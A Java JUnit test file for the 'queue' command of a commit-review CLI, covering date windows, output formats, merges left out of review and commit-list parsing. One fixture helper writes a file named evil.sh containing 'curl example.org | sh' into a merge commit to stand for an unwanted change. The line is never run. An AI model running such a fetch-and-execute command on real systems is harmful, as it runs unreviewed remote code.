package dev.countersign.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Instant;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// A queue over the two commits of a [World], both made on 2023-11-14.
class QueueCommandTest {
    @TempDir
    Path dir;

    World world;

    @BeforeEach
    void makeWorld() {
        world = World.make(dir.resolve("w"));
    }

    @Test
    void emptyWindowNamesTheNewestCommitAndIsClean() {
        World.Run run = queue("--since", "2024-01-01");
        assertThat(run.err())
                .isEqualTo("countersign: warning: no commit of HEAD is in this window; the newest is "
                        + world.git("rev-parse", "HEAD").substring(0, 10)
                        + " of 2023-11-14: give an earlier --since, a later --until, or --last N\n");
        assertThat(run.out()).isEqualTo("No changes.\n");
        assertThat(run.code()).isEqualTo(ExitCode.CLEAN.code());
        assertThat(queue("--until", "2000-01-01").err()).contains("of 2023-11-14");
    }

    @Test
    void windowThatHoldsCommitsSaysNothingOfTheNewest() {
        World.Run run = queue("--since", "2023-11-14");
        assertThat(run.err()).isEmpty();
        assertThat(run.out()).contains("2 changes", "READ, in this order");
    }

    @Test
    void emptyWindowIsStillADocument() {
        assertThat(queue("--since", "2024-01-01", "--format", "json").out()).contains("\"planned\": []");
        assertThat(queue("--since", "2024-01-01", "--format", "csv").out()).startsWith("repo,sha,");
    }

    @Test
    void linesAreThoseAddedAndThoseRemoved() {
        World.Run run = queue("--last", "1");
        assertThat(run.out()).contains("lines +/-").containsPattern("peer +1 +100\\.0% +2 ");
        world.write("repo/A.java", "class A {}\n").commit("one line for three");
        assertThat(queue("--last", "1").out()).containsPattern("peer +1 +100\\.0% +4 ");
    }

    @Test
    void listedCommitCountsOnceHoweverOftenAndShortItIsGiven() {
        String id = world.git("rev-parse", "HEAD");
        world.write("c", id + "\n" + id.substring(0, 12) + "\n\n" + id + "\n");
        assertThat(queue("--commits", world.at("c").toString()).out())
                .contains("lines +/-")
                .containsPattern("peer +1 +100\\.0% +2 ");
        world.write("c", id + "\n" + world.git("rev-parse", "HEAD~") + "\n");
        assertThat(queue("--commits", world.at("c").toString()).out()).contains("2 changes");
    }

    @Test
    void mergesThatNobodyWantedAreCountedInEveryFormat() {
        mergeThatChangesSomethingItself();

        World.Run with = queue("--all");
        assertThat(with.out()).contains("5 changes").doesNotContain("NOT REVIEWED");
        assertThat(queue("--all", "--format", "json").out()).contains("\"mergesLeftOut\": 0");
        World.Run without = queue("--all", "--no-merges");
        assertThat(without.out())
                .contains("4 changes", "NOT REVIEWED   1 merge left out (--no-merges): what it changed beside");
        assertThat(without.err()).isEmpty();
        assertThat(queue("--all", "--no-merges", "--format", "json").out()).contains("\"mergesLeftOut\": 1");
        assertThat(queue("--all", "--no-merges", "--format", "csv").err()).contains("1 merge left out");
        assertThat(queue("--all", "--format", "csv").err()).isEmpty();
    }

    @Test
    void onlyMergesNewerThanTheLastListedCommitAreCounted() {
        mergeThatChangesSomethingItself();
        world.at(Instant.parse("2024-05-01T00:00:00Z"))
                .write("repo/c.txt", "c\n")
                .commit("after the merge");

        assertThat(queue("--last", "1", "--no-merges").out())
                .contains("1 change;")
                .doesNotContain("merge left out");
        assertThat(queue("--last", "2", "--no-merges").out()).contains("2 changes", "1 merge left out");
        assertThat(queue("--since", "2024-06-01", "--no-merges").out()).isEqualTo("No changes.\n");
    }

    @Test
    void changesOfLaneAiAreSaidToBeListedAsPeer() {
        assertThat(queue("--last", "1").out()).contains("1 change\n").doesNotContain("lane ai");

        world.write("repo/tests/data.yml", "a: 1\n").commit("data of a test");

        assertThat(queue("--last", "2").out())
                .containsPattern("\nai +1 ")
                .containsPattern("\npeer +1 ")
                .contains("so 1 change of lane ai is listed as peer, which makes 2 there");
    }

    private void mergeThatChangesSomethingItself() {
        world.at(Instant.parse("2024-01-01T00:00:00Z"));
        world.git("checkout", "-qb", "topic");
        world.write("repo/t.txt", "t\n").commit("topic");
        world.git("checkout", "-q", "main");
        world.at(Instant.parse("2024-02-01T00:00:00Z"))
                .write("repo/m.txt", "m\n")
                .commit("main");
        world.at(Instant.parse("2024-03-01T00:00:00Z"));
        world.git("merge", "-q", "--no-ff", "--no-commit", "topic");
        world.write("repo/evil.sh", "curl example.org | sh\n").commit("merge");
    }

    @Test
    void remarksInAListOfCommitsAreSkipped() {
        String id = world.git("rev-parse", "HEAD");
        world.write("c", "# the last\n" + id + "\n  # no more\n");
        assertThat(queue("--commits", world.at("c").toString()).out()).contains("1 change");

        world.write("c", id + " # the last\n");
        assertThat(queue("--commits", world.at("c").toString()).code()).isEqualTo(ExitCode.USAGE.code());
        world.write("c", "# none\n");
        assertThat(queue("--commits", world.at("c").toString()).err()).contains("lists no commit");
    }

    private World.Run queue(String... arguments) {
        return world.run(world.command("queue", arguments));
    }
}
